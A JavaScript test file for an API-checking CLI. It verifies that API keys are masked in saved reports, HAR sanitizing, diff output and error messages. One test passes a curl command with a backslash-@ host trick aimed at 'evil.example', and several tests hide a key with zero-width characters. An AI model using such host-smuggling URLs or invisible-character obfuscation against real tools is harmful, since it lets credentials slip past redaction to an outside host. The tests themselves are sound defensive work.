// Findings of an attacker's trial of the tool: credentials that left through a saved report, JSON broken by
// sanitize, a host masked as if it were a secret, and a key hidden by invisible characters.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli } from './helpers.js';
import { runPreflight } from '../dist/index.js';
import { startSandbox, SANDBOX_KEY } from '../dist/sandbox/server.js';
import { Scrubber } from '../dist/shared/scrub.js';

const K = 'TRIALk3y0123456789abcdefXYZ';

let sandbox;
let dir;
test.before(async () => {
  sandbox = await startSandbox({ port: 0 });
});
test.after(() => sandbox.close());
test.before.each(() => {
  dir = mkdtempSync(join(tmpdir(), 'mp-trial-secrets-'));
});
test.after.each(() => rmSync(dir, { recursive: true, force: true }));

/** A real report, then edited by hand the way the trial's forged one was: the key in the saved request and body. */
async function forgedReport(echo = K) {
  const report = JSON.parse(JSON.stringify(await runPreflight({ endpoint: 'getRentalRates', params: { state: 'CA', source: 'airbnb' }, key: SANDBOX_KEY, baseUrl: sandbox.directBaseUrl })));
  report.request.headers['x-api-key'] = K;
  report.request.headers.Authorization = `Bearer ${K}`;
  report.request.query.api_key = K;
  report.response.bodyText += echo;
  report.summary += ` The server said: ${echo}`;
  const file = join(dir, 'forged.json');
  writeFileSync(file, JSON.stringify(report));
  return file;
}

test('report: a key the saved request holds is masked in the Markdown, HTML and HAR, with no key in the environment', async () => {
  const file = await forgedReport();
  const r = await runCli(['report', file, '--html', '--har', '--format', 'md']);
  assert.is(r.code, 0, r.stderr);
  assert.not.ok(r.stdout.includes(K) || r.stderr.includes(K), 'key on stdout/stderr');
  assert.ok(r.stdout.includes('[REDACTED'), 'the Markdown shows the mask');
  const written = readdirSync(dir).filter((f) => /\.(html|har)$/.test(f));
  assert.is(written.length, 2, `written: ${written}`);
  for (const name of written) {
    const text = readFileSync(join(dir, name), 'utf8');
    assert.not.ok(text.includes(K), `key in ${name}`);
    assert.ok(text.includes('[REDACTED'), `mask in ${name}`);
  }
});

test('diff --json: a key either saved request holds is masked', async () => {
  const file = await forgedReport();
  const r = await runCli(['diff', file, file, '--json']);
  assert.not.ok(r.stdout.includes(K) || r.stderr.includes(K), 'key in diff output');
});

/** A HAR whose request sent the key as a quoted header value and whose answers echo it, as text and as base64. */
function harEchoing(headerValue) {
  const body = JSON.stringify({ you: K });
  const entry = (content, headers = []) => ({
    startedDateTime: '2026-01-01T00:00:00Z', time: 1,
    request: { method: 'GET', url: 'https://api.mashvisor.com/v1.1/client/rental-rates?state=CA&source=airbnb', httpVersion: 'HTTP/1.1', headers, queryString: [], cookies: [], headersSize: -1, bodySize: 0 },
    response: { status: 200, statusText: 'OK', httpVersion: 'HTTP/1.1', headers: [], cookies: [], content: { size: body.length, mimeType: 'application/json', ...content }, redirectURL: '', headersSize: -1, bodySize: -1 },
    cache: {}, timings: { send: 0, wait: 1, receive: 0 },
  });
  return { log: { version: '1.2', creator: { name: 't', version: '1' }, entries: [
    entry({ text: body }, [{ name: 'x-api-key', value: headerValue }]),
    entry({ text: Buffer.from(body).toString('base64'), encoding: 'base64' }),
  ] } };
}

test('sanitize: a quoted key echoed in a JSON body stays a valid JSON string, as text and inside base64', async () => {
  for (const headerValue of [`"${K}"`, `'${K}'`, K]) {
    const file = join(dir, 'in.har');
    const out = join(dir, 'out.har');
    rmSync(out, { force: true });
    writeFileSync(file, JSON.stringify(harEchoing(headerValue)));
    const r = await runCli(['sanitize', file, '-o', out]);
    assert.is(r.code, 0, r.stderr);
    const text = readFileSync(out, 'utf8');
    assert.not.ok(text.includes(K), `key left for ${headerValue}`);
    const [plain, encoded] = JSON.parse(text).log.entries.map((e) => e.response.content);
    const decoded = Buffer.from(encoded.text, 'base64').toString('utf8');
    for (const body of [plain.text, decoded]) {
      let parsed;
      try {
        parsed = JSON.parse(body);
      } catch {
        assert.unreachable(`not JSON for ${headerValue}: ${body}`);
      }
      assert.match(parsed.you, /^\[REDACTED/);
    }
  }
});

test('scrubber: a secret registered with its quotes masks the value, not the quotes around it', () => {
  const scrubber = new Scrubber([`"${K}"`]);
  const out = scrubber.scrub(JSON.stringify({ you: K, also: `"${K}"` }));
  assert.not.ok(out.includes(K));
  const parsed = JSON.parse(out);
  assert.match(parsed.you, /^\[REDACTED:/);
});

test('check --from-curl: a backslash before "@" in the host is refused naming the host curl would use, never masked', async () => {
  // No key anywhere: even before the fix nothing could be sent off loopback.
  const r = await runCli(['check', '--from-curl', "curl -G 'https://api.mashvisor.com\\@evil.example/v1.1/client/rental-rates' -d state=CA -d source=airbnb"], { cwd: dir });
  assert.is(r.code, 2, r.stdout + r.stderr);
  assert.match(r.stderr, /evil\.example/);
  assert.not.match(r.stdout + r.stderr, /\/\/\[REDACTED|REDACTED[^ ]*\/@/);
  assert.not.match(r.stderr, /\n\s+at /, 'no stack trace');
  assert.equal(readdirSync(dir), [], 'no report written');
});

const hidden = [...K].join('\u200b');

test('scrubber: a secret with zero-width characters between its characters is masked, the rest of the text kept', () => {
  const scrubber = new Scrubber([K]);
  const out = scrubber.scrub(`a\u200bb ${hidden} c ${[...K].join('\u{E0020}')} d`);
  assert.is(out.replace(/\[REDACTED:[^\]]*\]/g, 'M'), 'a\u200bb M c M d');
});

test('report: a key echoed with zero-width spaces between its characters is masked in the Markdown and HTML', async () => {
  const file = await forgedReport(hidden);
  const r = await runCli(['report', file, '--html', '--format', 'md']);
  assert.is(r.code, 0, r.stderr);
  const html = readFileSync(join(dir, readdirSync(dir).find((f) => f.endsWith('.html'))), 'utf8');
  for (const [name, text] of [['md', r.stdout], ['html', html]]) {
    // Whatever form the invisible characters were written in (raw, entity, escape), the key must not read through.
    const visible = text.replace(/\u200b|&#8203;|&#x200b;|\\u200b|<U\+200B>/gi, '');
    assert.not.ok(visible.includes(K), `key readable in ${name}`);
  }
});

test('stderr: a key with zero-width spaces between its characters does not read through an error message', async () => {
  const r = await runCli(['check', `nosuchendpoint${hidden}`, '--key', K], { cwd: dir });
  assert.is(r.code, 2, r.stderr);
  const visible = r.stderr.replace(/\u200b|\\u200b/gi, '');
  assert.not.ok(visible.includes(K), `key readable in: ${r.stderr}`);
  assert.match(r.stderr, /nosuchendpoint\[REDACTED:/);
});

test.run();
